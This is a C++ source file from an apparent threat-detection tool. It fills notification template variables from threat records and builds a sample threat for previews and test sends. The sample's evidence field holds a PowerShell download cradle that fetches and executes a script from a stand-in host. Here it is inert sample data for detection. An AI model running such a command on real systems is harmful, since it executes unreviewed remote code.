#include "respond/threat_vars.h"

#include <memory>
#include <nlohmann/json.hpp>

namespace td::respond {

std::string threatLink(const std::string& base_url, core::ThreatId id) {
  std::string base = base_url.empty() ? "http://127.0.0.1:8080" : base_url;
  while (!base.empty() && base.back() == '/') base.pop_back();
  return base + "/threats/" + std::to_string(id);
}

Vars threatVars(const core::Threat& t, const EventInfo& e, const std::string& base_url) {
  Vars v;
  v.set("threat_id", std::to_string(t.id));
  v.set("signal_id", t.kind == core::ThreatKind::kSignal ? std::to_string(t.id) : "");
  v.set("rule_id", t.rule_id);
  v.set("rule_group", t.rule_group);
  v.set("group_id", t.group_id ? std::to_string(*t.group_id) : "");
  v.set("project_id", std::to_string(t.project_id));
  v.set("project", e.project);
  v.set("organisation_id", std::to_string(e.organisation_id));
  v.set("status", t.closed ? "closed" : "open");
  v.set("name", t.name);
  v.set("description", t.description);
  v.set("severity", std::string(core::severityName(t.severity)));
  v.set("score", std::to_string(t.score));
  v.set("source", t.source);
  v.set("kind", std::string(core::threatKindName(t.kind)));
  v.set("entity.type", t.entity.type);
  v.set("entity.value", t.entity.value);
  v.set("entity.group", t.entity_group);
  v.set("host", t.host);
  v.set("group", t.group);
  v.set("state", t.state);
  v.set("outcome", t.outcome);
  v.set("owner", t.owner);
  v.set("count", std::to_string(t.count));
  std::string tags;
  for (const auto& tag : t.tags) tags += (tags.empty() ? "" : ", ") + tag;
  v.set("tags", tags);
  v.set("link", threatLink(base_url, t.id));
  v.set("event", e.kind);
  v.set("actor", e.actor);
  v.set("previous_state", e.previous_state);
  v.set("created_at", core::formatRfc3339(t.created_at));
  v.set("updated_at", core::formatRfc3339(t.updated_at));
  auto fields = nlohmann::json::parse(t.evidence_json, nullptr, false);
  if (!fields.is_discarded())
    v.setFields(std::make_shared<const nlohmann::json>(std::move(fields)));
  return v;
}

core::Threat sampleThreat() {
  core::Threat t;
  t.id = 1;
  t.project_id = 1;
  t.name = "Suspicious PowerShell download cradle";
  t.description = "A sample threat for previews and test sends.";
  t.score = 75;
  t.severity = core::Severity::kHigh;
  t.kind = core::ThreatKind::kThreat;
  t.source = "Rule";
  t.rule_id = "sample-rule";
  t.rule_group = "Sigma";
  t.entity = {"host", "WS-042"};
  t.host = "WS-042";
  t.state = "New";
  t.group = "L1 Support";
  t.evidence_json =
      R"json({"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://example.test/a')","User":"CORP\\alice"})json";
  t.created_at = t.updated_at = core::nowMs();
  return t;
}

}  // namespace td::respond
